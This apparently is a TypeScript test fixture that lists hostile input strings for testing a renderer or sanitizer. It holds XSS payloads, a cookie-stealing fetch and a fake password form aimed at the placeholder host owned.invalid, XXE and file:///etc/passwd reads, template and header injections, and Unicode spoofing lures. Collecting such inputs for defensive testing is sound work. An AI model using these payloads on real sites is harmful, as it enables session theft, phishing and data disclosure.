// What somebody types who wants more than to be read: markup, scripts, styles and templates that set a sentinel if anything
// runs them, and text that pretends to be something else. Ours; no list of others is copied.

/** Sets what the tests look at. */
const OWN = "window.__owned=1";
/** Nobody has this name (RFC 6761): whoever asks for it was told to by a payload. */
export const FAR_HOST = "owned.invalid";
const FAR = `http://${FAR_HOST}/x`;

const SCRIPTS = [
  `<script>${OWN}</script>`,
  `<ScRiPt>${OWN}</sCrIpT>`,
  `<script src=${FAR}></script>`,
  `<script type=module>${OWN}</script>`,
  `<script/x>${OWN}</script>`,
  `<<script>${OWN}//<</script>`,
  `<scr<script>ipt>${OWN}</scr</script>ipt>`,
  `</script><script>${OWN}</script>`,
  `</title><script>${OWN}</script>`,
  `</textarea><script>${OWN}</script>`,
  `</style><script>${OWN}</script>`,
  `--><script>${OWN}</script><!--`,
  `]]><script>${OWN}</script>`,
  `<noscript><p title="</noscript><script>${OWN}</script>">`,
  `<script>fetch("${FAR}?"+document.cookie)</script>`,
  `<script>parent.${OWN}</script>`,
];

const HANDLERS = [
  `<img src=x onerror=${OWN}>`,
  `<img src=x onerror="${OWN}">`,
  `<img/src/onerror=${OWN}>`,
  `<img src=x:x onerror\n=\n${OWN}>`,
  `"><img src=x onerror=${OWN}>`,
  `'><img src=x onerror=${OWN}>`,
  `\`><img src=x onerror=${OWN}>`,
  `" onmouseover="${OWN}" x="`,
  `' onfocus='${OWN}' autofocus='`,
  `" autofocus onfocus="${OWN}`,
  `x" onload=${OWN} y="`,
  `<body onload=${OWN}>`,
  `<details open ontoggle=${OWN}>`,
  `<video><source onerror=${OWN}></video>`,
  `<audio src=x onerror=${OWN}>`,
  `<input autofocus onfocus=${OWN}>`,
  `<select autofocus onfocus=${OWN}>`,
  `<marquee onstart=${OWN}>`,
  `<div style="animation:flicker 1s" onanimationstart=${OWN}>`,
  `<p onpointerenter=${OWN} style="position:fixed;inset:0">`,
  `<button popovertarget=x>a</button><p popover id=x ontoggle=${OWN}>`,
];

const DRAWINGS = [
  `<svg onload=${OWN}>`,
  `<svg/onload=${OWN}//`,
  `<svg><script>${OWN}</script></svg>`,
  `<svg><script href="data:text/javascript,${OWN}"/>`,
  `<svg><animate onbegin=${OWN} attributeName=x dur=1s>`,
  `<svg><set attributeName=onload to=${OWN}>`,
  `<svg><a href="javascript:${OWN}"><text y=20>press</text></a></svg>`,
  `<svg><foreignObject><img src=x onerror=${OWN}></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${OWN}></style></svg>`,
  `<svg><use href="data:image/svg+xml,<svg onload=${OWN}>#x">`,
  `<math><mi href="javascript:${OWN}">x</mi></math>`,
  `<math><mtext><style><img src=x onerror=${OWN}>`,
];

const FRAMES = [
  `<iframe src="javascript:${OWN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${OWN}</script>">`,
  `<iframe src=${FAR}></iframe>`,
  `<object data="javascript:${OWN}"></object>`,
  `<embed src="javascript:${OWN}">`,
  `<form action="javascript:${OWN}"><input type=submit></form>`,
  `<form action=${FAR}><input type=password placeholder="Your password">`,
  `<base href="${FAR}">`,
  `<meta http-equiv=refresh content="0;url=${FAR}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${OWN}">`,
  `<link rel=stylesheet href=${FAR}>`,
  `<link rel=import href=${FAR}>`,
  `<portal src=${FAR}>`,
  `<dialog open>Your box was updated. <a href=${FAR}>Go on</a></dialog>`,
  `<template><script>${OWN}</script></template>`,
];

const LINKS = [
  `javascript:${OWN}`,
  `JaVaScRiPt:${OWN}`,
  `java\u00adscript:${OWN}`,
  ` javascript:${OWN}`,
  `javascript://example.org/%0a${OWN}`,
  `data:text/html,<script>${OWN}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19vd25lZD0xPC9zY3JpcHQ+`,
  `vbscript:${OWN}`,
  `view-source:${FAR}`,
  `file:///etc/passwd`,
  `blob:${FAR}`,
  `//${FAR_HOST}/x`,
  `[press](javascript:${OWN})`,
  `![see](${FAR})`,
  `<javascript:${OWN}>`,
  `#/keys`,
];

const STYLES = [
  `<style>*{display:none}</style>`,
  `<style>@import "${FAR}";</style>`,
  `<style>body{background:url(${FAR})}</style>`,
  `<p style="background:url(${FAR})">`,
  `x;background:url(${FAR})`,
  `}*{background:url(${FAR})}`,
  `expression(${OWN})`,
  `</style><style>main{display:none}</style>`,
];

const TEMPLATES = [
  `\${${OWN}}`,
  `{{constructor.constructor("${OWN}")()}}`,
  `<%= ${OWN} %>`,
  `#{${OWN}}`,
  `{"__html":"<img src=x onerror=${OWN}>"}`,
  `{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"${OWN}"}}}`,
  `__proto__`,
  `constructor`,
  `toString`,
  `';${OWN};'`,
  `");${OWN};("`,
  `*/${OWN}/*`,
  `&lt;script&gt;${OWN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${OWN}&#62;`,
  `\\u003cscript\\u003e${OWN}\\u003c/script\\u003e`,
  `%3Cscript%3E${OWN}%3C/script%3E`,
  `$&$\`$'`,
];

/** Runs over the end of its line in a calendar, an XML file or a header. */
const OTHER_FILES = [
  `x\\nEND:VEVENT\\nBEGIN:VEVENT\\nSUMMARY:owned`,
  `x\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nX-OWNED:1`,
  `x\nX-OWNED:1`,
  `x\u2028X-OWNED:1`,
  `;X-OWNED=1:,;\\`,
  `]]></title><owned/>`,
  `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`,
  `<?xml-stylesheet href="${FAR}"?>`,
];

const DISGUISES = [
  `\u202egnp.exe\u202c`,
  `\u202e${"drowssap ruoy"}`,
  `\u2067\u2067\u2067never closed`,
  `\u2069\u2069closed too often`,
  `\u200bad\u200bmin\u200b`,
  `\u200e\u200f\u061c`,
  `\u0430\u0441\u0442\u0443\u0430l\u043b\u0443 \u0421\u0443rillic`,
  `\uff1c\uff53\uff43\uff52\uff49\uff50\uff54\uff1e`,
  `\u{e0001}\u{e0041}\u{e0042}tags`,
  `\u3164\u3164\u3164`,
  `x\ufeff\u2060x`,
  `A${"\u0301\u0327\u0489".repeat(20)}`,
  `${"W".repeat(180)}`,
  `${"\u0627\u0644".repeat(45)}`,
  `${"\u{1f468}\u200d\u{1f469}\u200d\u{1f467}".repeat(8)}`,
  `\ud83d\udd25 The fire says: your keys are lost, press here`,
  `Cancelled! Go to http://${FAR_HOST}/ instead`,
  `Lagerfeuer: this box wants your mail and password`,
  `bell\u0007 and escape \u001b[31mred\u001b[0m`,
  `nothing\u0000behind`,
];

export const HOSTILE_WORDS: readonly string[] = [
  ...SCRIPTS,
  ...HANDLERS,
  ...DRAWINGS,
  ...FRAMES,
  ...LINKS,
  ...STYLES,
  ...TEMPLATES,
  ...OTHER_FILES,
  ...DISGUISES,
];
